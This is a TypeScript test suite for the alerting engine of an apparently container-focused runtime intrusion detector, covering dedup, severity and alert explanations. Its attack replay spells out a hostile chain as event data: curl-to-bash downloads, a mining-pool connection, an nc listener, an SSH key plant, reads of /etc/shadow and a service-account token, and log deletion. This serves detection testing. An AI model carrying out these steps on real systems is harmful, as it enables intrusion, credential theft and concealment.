import assert from 'node:assert/strict';
import sinon from 'sinon';
import { defineRule, type Rule } from '../../models/rules/types.ts';
import { rules } from '../../models/rules/index.ts';
import type { RuntimeEvent } from '../../collector/event.ts';
import {
  connect,
  exec,
  fire,
  firedRules,
  learnThenStable,
  listen,
  none,
  one,
  open,
  syscalls,
  testEngine,
  write,
  MIN,
  T0,
} from '../support/events.ts';

// a steady web service: what the attack part is judged against
const withPpid = <E extends RuntimeEvent>(ev: E, ppid: number): E => ({ ...ev, process: { ...ev.process, ppid } });

const steady: RuntimeEvent[] = [
  exec('/usr/bin/app', { parents: ['/usr/bin/containerd-shim-runc-v2'] }),
  exec('/bin/sh', { args: ['sh', '-c', 'date'], parents: ['/usr/bin/app'] }),
  exec('/bin/date', { parents: ['/bin/sh'] }),
  write('/var/lib/app/state.db'),
  write('/tmp/tmp.Xa81kQz0pL', 'create'),
  open('/etc/app/config.yaml'),
  listen(8080),
  connect('10.0.0.5', 5432),
  connect('10.0.0.7', 443, {}, 'api.example.com'),
  syscalls(['read', 'write', 'epoll_wait', 'futex', 'accept4']),
];

describe('models/engine', () => {
  describe('cooldown dedup', () => {
    it('repeats inside the window increment count of the open alert (isNew=false)', () => {
      const e = testEngine({ engine: { cooldownMs: 10 * MIN } });
      const t = learnThenStable(e, steady);
      const [first] = fire(e, exec('/usr/bin/curl'), t);
      assert.equal(first.isNew, true);
      assert.equal(first.alert.count, 1);
      const [second] = fire(e, exec('/usr/bin/curl', { pid: 7 }), t + 5 * MIN);
      assert.equal(second.isNew, false);
      assert.equal(second.alert, first.alert);
      assert.equal(first.alert.count, 2);
      assert.equal(first.alert.time, new Date(t).toISOString(), 'time stays the first occurrence');
      assert.equal(first.alert.lastSeen, new Date(t + 5 * MIN).toISOString());
      assert.equal(e.raised.get('unexpected-exec'), 1);
    });

    it('a repeat after the window makes a new alert', () => {
      const e = testEngine({ engine: { cooldownMs: 10 * MIN } });
      const t = learnThenStable(e, steady);
      const [a] = fire(e, exec('/usr/bin/curl'), t);
      const [b] = fire(e, exec('/usr/bin/curl'), t + 10 * MIN);
      assert.equal(b.isNew, true);
      assert.notEqual(b.alert, a.alert);
      assert.notEqual(b.alert.id, a.alert.id);
      assert.equal(b.alert.dedupKey, a.alert.dedupKey);
      assert.equal(b.alert.count, 1);
      assert.equal(a.alert.count, 1);
      assert.equal(e.raised.get('unexpected-exec'), 2);
    });

    it('the window slides from the latest repeat (current behaviour)', () => {
      const e = testEngine({ engine: { cooldownMs: 10 * MIN } });
      const t = learnThenStable(e, steady);
      const [a] = fire(e, exec('/usr/bin/curl'), t);
      for (let i = 1; i <= 5; i++) assert.equal(fire(e, exec('/usr/bin/curl'), t + i * 9 * MIN)[0].isNew, false);
      assert.equal(a.alert.count, 6);
    });

    it('different dedup keys are different alerts; the same key in another workload too', () => {
      const e = testEngine();
      const t = learnThenStable(e, [...steady, ...steady.map((ev) => ({ ...ev, workload: { ...ev.workload!, id: 'shop/Deployment/api', name: 'api' } }))]);
      // started by different parents: the same parent's burst is one fan-out finding (below)
      const a = one(e, exec('/usr/bin/curl', { ppid: 100 }), t);
      const b = one(e, exec('/usr/bin/wget', { ppid: 200 }), t);
      const c = one(e, exec('/usr/bin/curl', { workload: 'shop/Deployment/api', ppid: 100 }), t);
      assert.equal(new Set([a.dedupKey, b.dedupKey, c.dedupKey]).size, 3);
      assert.equal(new Set([a.id, b.id, c.id]).size, 3);
    });

    it('restored open alerts keep folding repeats after a restart', () => {
      const e1 = testEngine();
      const t = learnThenStable(e1, steady);
      const a = one(e1, exec('/usr/bin/curl'), t);
      const e2 = testEngine();
      learnThenStable(e2, steady);
      e2.restoreOpen([structuredClone(a)]);
      const [u] = fire(e2, exec('/usr/bin/curl'), t + MIN);
      assert.equal(u.isNew, false);
      assert.equal(u.alert.id, a.id);
      assert.equal(u.alert.count, 2);
    });

    it('open-alert state is bounded; forgotten keys alert anew', () => {
      const e = testEngine({ engine: { maxOpenAlerts: 10 } });
      const t = learnThenStable(e, steady);
      for (let i = 0; i < 30; i++) one(e, exec(`/opt/tool${String.fromCharCode(97 + (i % 26))}${i >= 26 ? 'x' : ''}`, { ppid: 1000 + i }), t + i);
      // the first ones were evicted: they raise a new alert inside the window (from
      // another parent: its own parent's fan-out finding would still cover it)
      assert.equal(fire(e, exec('/opt/toola', { ppid: 5000 }), t + 100)[0].isNew, true);
    });

    it('past the cap the least recently repeated alerts are forgotten, counted; a repeating one stays open', () => {
      const e = testEngine({ engine: { maxOpenAlerts: 50 } });
      const t = learnThenStable(e, steady);
      const hot = one(e, exec('/opt/hot'), t);
      for (let i = 0; i < 500; i++) {
        // each from its own parent (one parent's burst would be one fan-out finding)
        one(e, exec(`/opt/cold-${String.fromCharCode(97 + (i % 26))}${Math.floor(i / 26)}x`, { ppid: 10_000 + i }), t + i);
        if (i % 10 === 0) assert.equal(fire(e, exec('/opt/hot'), t + i)[0].isNew, false, `hot alert still open at ${i}`);
      }
      assert.ok(e.openAlerts <= 50 + 16, `open ${e.openAlerts}`);
      assert.ok(e.stats.openEvicted >= 500 - 66, `evicted ${e.stats.openEvicted}`);
      assert.equal(hot.count, 51);
    });

    it('expired alerts leave the open state as time passes (counted apart from evictions)', () => {
      const e = testEngine({ engine: { cooldownMs: MIN } });
      const t = learnThenStable(e, steady);
      for (let i = 0; i < 20; i++) one(e, exec(`/opt/tool-${String.fromCharCode(97 + i)}x`, { ppid: 10_000 + i }), t);
      one(e, exec('/opt/later'), t + 2 * MIN);
      assert.equal(e.openAlerts, 1);
      assert.equal(e.stats.openExpired, 20);
      assert.equal(e.stats.openEvicted, 0);
    });

    it('ids are deterministic: same key, instant and node → same id', () => {
      const mk = () => {
        const e = testEngine();
        const t = learnThenStable(e, steady);
        return one(e, exec('/usr/bin/curl'), t);
      };
      assert.equal(mk().id, mk().id);
    });
  });

  describe('one event, one alert', () => {
    it('a built-in hit suppresses the novelty hit for the same event', () => {
      const e = testEngine();
      const t = learnThenStable(e, steady);
      assert.deepEqual(firedRules(e, exec('/tmp/kinsing'), t), ['exec-writable-path']);
      assert.deepEqual(firedRules(e, write('/usr/bin/ls', 'create'), t), ['write-system-path']);
      assert.deepEqual(firedRules(e, listen(4444, { exe: '/usr/bin/nc' }), t), ['listener-by-tool']);
      assert.deepEqual(firedRules(e, connect('127.66.6.6', 3333), t), ['miner-port-egress']);
      assert.deepEqual(firedRules(e, syscalls(['read', 'ptrace']), t), ['dangerous-syscall']);
      assert.deepEqual(firedRules(e, exec('/usr/bin/apt-get', { args: ['apt-get', 'install', 'nmap'] }), t), ['package-manager']);
    });

    it('the novelty hit stands when no built-in fires', () => {
      const e = testEngine();
      const t = learnThenStable(e, steady);
      assert.deepEqual(firedRules(e, exec('/usr/bin/curl'), t), ['unexpected-exec']);
      assert.deepEqual(firedRules(e, connect('127.66.6.6', 8443), t), ['unexpected-connect']);
    });

    it('several built-ins: the most severe speaks and names the others', () => {
      const e = testEngine();
      const t = learnThenStable(e, steady);
      none(e, write('/tmp/x.part', 'create'), t); // /tmp/* was learned (from the temp name)
      // written, then run from /tmp: drift (critical) and writable path (high) both match
      const a = one(e, exec('/tmp/x.part'), t + 1);
      assert.equal(a.rule, 'drift-exec');
      assert.equal(a.severity, 'critical');
      assert.match(a.description, /Also matched: exec-writable-path, unexpected-exec\./);
      // a deleted binary in /tmp: fileless (critical) outranks the writable path (high)
      const b = one(e, exec('/tmp/app (deleted)'), t + 2);
      assert.equal(b.rule, 'fileless-exec');
      assert.match(b.description, /Also matched: exec-writable-path/);
    });

    it('a built-in repeat (isNew=false) still suppresses novelty', () => {
      const e = testEngine();
      const t = learnThenStable(e, steady);
      one(e, exec('/tmp/kinsing'), t);
      const ups = fire(e, exec('/tmp/kinsing'), t + 1);
      assert.deepEqual(ups.map((u) => [u.alert.rule, u.isNew]), [['exec-writable-path', false]]);
    });
  });

  describe('configuration', () => {
    it('disabled rules never run', () => {
      const e = testEngine({ engine: { rules: { 'shell-spawned': { enabled: false }, 'unexpected-exec': { enabled: false } } } });
      none(e, exec('/bin/sh', { args: ['sh'], parents: ['/usr/bin/python3'] }));
      const t = learnThenStable(e, steady);
      none(e, exec('/usr/bin/curl'), t);
      // a disabled built-in lets the novelty rule speak for the event
      const e2 = testEngine({ engine: { rules: { 'exec-writable-path': { enabled: false } } } });
      const t2 = learnThenStable(e2, steady);
      assert.deepEqual(firedRules(e2, exec('/tmp/kinsing'), t2), ['unexpected-exec']);
    });

    it('severity override beats the rule default and a hit-specific severity', () => {
      const e = testEngine({ engine: { rules: { 'unexpected-exec': { severity: 'critical' }, 'package-manager': { severity: 'low' } } } });
      const t = learnThenStable(e, steady);
      assert.equal(one(e, exec('/usr/bin/curl', { ppid: 100 }), t).severity, 'critical');
      assert.equal(one(e, exec('/bin/sh', { args: ['sh', '-c', 'id'], parents: ['/usr/sbin/nginx'], ppid: 200 }), t).severity, 'critical', 'lineage hit is medium by default');
      assert.equal(one(e, exec('/usr/bin/apt', { args: ['apt', 'update'] }), t).severity, 'low');
    });

    it('a severity override also decides which built-in speaks for an event', () => {
      const e = testEngine({ engine: { rules: { 'drift-exec': { severity: 'low' } } } });
      none(e, write('/tmp/x', 'create'), T0);
      const a = one(e, exec('/tmp/x'), T0 + 1);
      assert.equal(a.rule, 'exec-writable-path');
      assert.match(a.description, /Also matched: drift-exec/);
    });

    it('rules only see the event kinds they registered for', () => {
      const evaluate = sinon.fake.returns(undefined);
      const spy: Rule = defineRule({
        id: 'spy',
        title: 'spy',
        kinds: ['listen'],
        severity: 'low',
        mitre: { technique: 'T0000', name: 'x', tactic: 'x' },
        novelty: false,
        evaluate,
      });
      const e = testEngine({ rules: [spy] });
      for (const ev of steady) e.process(ev, T0);
      assert.equal(evaluate.callCount, 1);
      assert.equal(evaluate.firstCall.args[0].kind, 'listen');
    });
  });

  describe('every alert explains itself', () => {
    it('novelty alerts carry the closest known items ("expected one of …")', () => {
      const e = testEngine();
      const t = learnThenStable(e, steady);
      const cases: [RuntimeEvent, string][] = [
        [exec('/usr/bin/curl'), '/usr/bin/app'],
        [write('/var/lib/app/evil', 'create'), '/var/lib/app/state.db'],
        [open('/etc/app/secret.yaml'), '/etc/app/config.yaml'],
        [listen(9000), 'tcp *:8080'],
        [connect('127.66.6.6', 5432), 'tcp 10.0.0.5:5432'],
        // a syscall's closest known items are the calls of its family (a new process call → futex;
        // the first use of an ordinary call such as recvfrom raises nothing: unexpected-syscall/ordinary.ts)
        [syscalls(['personality']), 'futex'],
      ];
      for (const [ev, closest] of cases) {
        const a = one(e, ev, t);
        assert.ok(a.rule.startsWith('unexpected-'), a.rule);
        assert.ok(a.baseline.expected.length > 0 && a.baseline.expected.length <= 5, `${a.rule}: ${a.baseline.expected}`);
        assert.ok(a.baseline.expected.includes(closest), `${a.rule}: ${closest} not in ${a.baseline.expected}`);
        assert.match(a.description, /Expected one of: /);
        assert.match(a.description, /Not in baseline: /);
        assert.match(a.description, /v1 is stable since /);
        assert.equal(a.baseline.state, 'stable');
        assert.equal(a.baseline.version, 1);
      }
    });

    it('workload, container, pod, node, image and process ancestry are filled in', () => {
      const e = testEngine();
      const a = one(e, exec('/bin/bash', { args: ['bash'], ancestors: [{ exe: '/usr/bin/python3', args: ['python3', 'app.py'] }, { exe: '/sbin/tini' }], node: 'node-z', uid: 0 }), T0);
      assert.deepEqual(a.workload, {
        id: 'shop/Deployment/web',
        namespace: 'shop',
        kind: 'Deployment',
        name: 'web',
        container: 'app',
        pod: 'web-7d9f8b6c5d-x2x7k',
        node: 'node-z',
        image: 'registry.example/web:1.0',
      });
      assert.equal(a.process.uid, 0);
      assert.deepEqual(a.process.ancestors, [{ exe: '/usr/bin/python3', args: ['python3', 'app.py'] }, { exe: '/sbin/tini' }]);
      assert.equal(a.evidence.parentExe, '/usr/bin/python3');
      assert.equal(a.source, 'test');
      assert.equal(a.baseline.state, 'learning');
      assert.ok(!a.baseline.expected.includes('/bin/bash'), 'the item itself is no explanation');
    });

    it('a host process without container or pod validates (nulls)', () => {
      const e = testEngine();
      const hostEv = (names: string[]): RuntimeEvent => {
        const ev = syscalls(names, { inContainer: false });
        ev.workload = { id: 'host/cgroup/system.slice/x.service', kind: 'cgroup', name: 'system.slice/x.service' };
        ev.process = { pid: 1, exe: '/usr/sbin/x', args: [] };
        return ev;
      };
      const t = learnThenStable(e, [hostEv(['read'])]);
      const a = one(e, hostEv(['init_module']), t);
      assert.equal(a.rule, 'dangerous-syscall');
      assert.deepEqual([a.workload.namespace, a.workload.container, a.workload.pod, a.workload.image], [null, null, null, null]);
      assert.deepEqual([a.process.ppid, a.process.uid, a.process.cwd, a.process.ancestors], [null, null, null, []]);
    });

    it('every alert of a mixed attack replay validates against the schema', () => {
      const e = testEngine();
      const t = learnThenStable(e, steady);
      const attack: RuntimeEvent[] = [
        exec('/bin/sh', { args: ['sh'], parents: ['/usr/bin/app'] }),
        exec('/usr/bin/curl', { args: ['curl', '-o', '/tmp/x', 'http://127.66.6.6/x'], parents: ['/bin/sh'] }),
        write('/tmp/.x/miner', 'create'),
        write('/tmp/.x/miner', 'chmod'),
        exec('/tmp/.x/miner', { parents: ['/bin/sh'] }),
        exec('memfd:x', { parents: ['/bin/sh'] }),
        exec('/dev/shm/x', { parents: ['/bin/sh'] }),
        connect('127.66.6.6', 3333),
        connect('127.66.6.6', 443, {}, 'pool.supportxmr.com'),
        connect('127.66.6.6', 8443),
        listen(4444, { exe: '/usr/bin/nc' }),
        listen(31337),
        write('/etc/ld.so.preload'),
        write('/root/.ssh/authorized_keys'),
        open('/var/run/secrets/kubernetes.io/serviceaccount/token', { exe: '/bin/cat' }),
        syscalls(['ptrace', 'mount', 'personality']),
        exec('/usr/bin/apt-get', { args: ['apt-get', 'install', '-y', 'nmap'] }),
        exec('/var/tmp/.cache/sshd', { parents: ['/bin/sh'] }),
        { ...write('/tmp/.x/miner', 'chmod'), mode: 0o4755 },
        write('/root/.bash_history', 'unlink', { exe: '/bin/rm' }),
        write('/var/log/auth.log', 'unlink', { exe: '/bin/rm' }),
        open('/etc/shadow', { exe: '/bin/cat' }),
        // two pipelines: curl | bash, base64 -d | sh (siblings: one parent each)
        withPpid(exec('/usr/bin/curl', { pid: 5001, args: ['curl', '-s', 'http://127.66.6.6/i.sh'] }), 5000),
        withPpid(exec('/bin/bash', { pid: 5002, args: ['bash'] }), 5000),
        withPpid(exec('/usr/bin/base64', { pid: 5011, args: ['base64', '-d'] }), 5010),
        withPpid(exec('/bin/sh', { pid: 5012, args: ['sh'] }), 5010),
        // recon typed into an interactive shell
        withPpid(exec('/usr/bin/id', { pid: 5021, ancestors: [{ exe: '/bin/bash', args: ['bash', '-i'] }] }), 5020),
        withPpid(exec('/usr/bin/uname', { pid: 5022, args: ['uname', '-a'], ancestors: [{ exe: '/bin/bash', args: ['bash', '-i'] }] }), 5020),
        withPpid(exec('/usr/bin/hostname', { pid: 5023, ancestors: [{ exe: '/bin/bash', args: ['bash', '-i'] }] }), 5020),
      ];
      // a port scan from a workload still learning (once stable, unexpected-connect's fan-out is the finding)
      for (let port = 1; port <= 16; port++) attack.push(connect('127.0.0.1', port, { pid: 6001, exe: '/usr/bin/nc', workload: 'shop/Deployment/new' }));
      // a responder forbade wget for this workload (the graveyard): it alerts as forbidden-item
      for (const b of e.profiler.baselines.values()) b.forbid('exec', '/usr/bin/wget');
      attack.push(exec('/usr/bin/wget', { args: ['wget', 'http://127.66.6.6/x'], parents: ['/bin/sh'] }));
      const seen = new Set<string>();
      let n = 0;
      for (const ev of attack) for (const u of fire(e, ev, t + n++ * 1000)) seen.add(u.alert.rule);
      // every rule of the registry fired at least once (unexpected-file-open: no novel read in this attack)
      const expected = rules.map((r) => r.id).filter((id) => id !== 'unexpected-file-open' && id !== 'unexpected-syscall' && id !== 'unexpected-file-write');
      for (const id of expected) assert.ok(seen.has(id), `${id} did not fire: ${[...seen].join(', ')}`);
    });
  });
});
